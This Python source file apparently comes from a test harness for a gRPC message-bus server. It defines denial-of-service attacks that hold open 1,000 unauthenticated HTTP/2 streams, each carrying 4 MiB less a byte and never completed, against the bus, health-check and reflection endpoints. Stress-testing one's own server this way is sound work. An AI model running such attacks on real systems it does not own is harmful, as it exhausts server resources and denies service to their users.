"""Requests that are never completed: 4 MiB less a byte on each of many streams, without a token."""

from collections.abc import Callable

from http2 import Call, headers
from load import keep
from target import BUS, MIB, Attack, Outcome, Target

_STREAMS = 1_000
#: Calls to open at once, and per second after that, including replacements of refused ones. More
#: would be a flood of calls, which is another attack.
_AT_ONCE, _RATE = 100, 400
_HEALTH = "/grpc.health.v1.Health/Check"
_REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def _half(path: str) -> Callable[[Target], Outcome]:
    def run(target: Target) -> Outcome:
        announced = b"\0" + (4 * MIB).to_bytes(4, "big")
        call = Call(headers(path), announced + bytes(4 * MIB - 1), finished=False)
        target.ready()
        load = keep(
            target,
            lambda: call,
            in_flight=_STREAMS,
            connections=5,
            at_once=_AT_ONCE,
            rate=_RATE,
        )
        return Outcome(did=str(load))

    return run


def _attack(name: str, path: str, auth: str = "open") -> Attack:
    return Attack(
        name=f"half-{name}",
        what=f"{_STREAMS:,} requests of 4 MiB less a byte to {path.rpartition('/')[2]}",
        run=_half(path),
        auth=auth,
    )


ATTACKS = [
    _attack("post", f"{BUS}/PostMessage"),
    _attack("post-required", f"{BUS}/PostMessage", "required"),
    _attack("posts", f"{BUS}/PostMessages"),
    _attack("posts-required", f"{BUS}/PostMessages", "required"),
    _attack("wait-required", f"{BUS}/WaitMessages", "required"),
    _attack("health-required", _HEALTH, "required"),
    _attack("reflection", _REFLECTION, "required"),
]
